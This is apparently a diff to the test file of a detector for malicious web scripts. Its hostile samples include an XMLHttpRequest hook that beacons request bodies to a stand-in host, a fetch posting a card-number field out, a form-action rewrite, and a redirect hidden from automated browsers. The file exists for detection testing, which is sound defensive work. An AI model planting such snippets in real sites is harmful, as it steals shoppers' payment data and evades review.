@@ -53,6 +53,9 @@ const table: [string, string, string][] = [
   ['form-action-rewrite',
     'form.action = "https://secure-checkout.example/pay.php"; form.submit();',
     'form.action = "/checkout/pay"; form.submit();'],
+  ['request-interception',
+    'var o = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { new Image().src = "https://copy.example/c?d=" + btoa(b); return o.apply(this, arguments); };',
+    'var o = XMLHttpRequest.prototype.send; var copy = XMLHttpRequest.prototype.send;'],
   ['form-data-exfiltration',
     'fetch("https://e.example/c", { method: "POST", body: document.getElementById("cc_number").value });',
     'fetch("https://e.example/c", { method: "POST", body: document.title });'],
@@ -76,6 +79,13 @@ describe('detectors', () => {
     assert.ok(detected('var s = ["onepage", "checkout"]; for (var i = 0; i < s.length; i++) if (location.pathname.indexOf(s[i]) > -1) go();').has('checkout-gating'));
     assert.ok(detected('if (["cart", "payment"].some((k) => location.href.includes(k))) go();').has('checkout-gating'));
     assert.ok(!detected('if (["blog", "news"].some((k) => location.href.includes(k))) go();').has('checkout-gating'));
+  });
+
+  test('a redirect to what a server answers is weak alone and stronger behind an automation check', () => {
+    const plain = 'fetch("/next").then((r) => r.json()).then((d) => { location.href = d.url; });';
+    const gated = 'if (!navigator.webdriver) fetch("https://tds.example/g").then((r) => r.json()).then((d) => { top.location.href = d.url; });';
+    assert.equal(detected(plain).get('drive-by-redirect'), 'low');
+    assert.equal(detected(gated).get('drive-by-redirect'), 'medium');
   });
 
   test('a hidden frame without a named host is only a weak signal', () => {
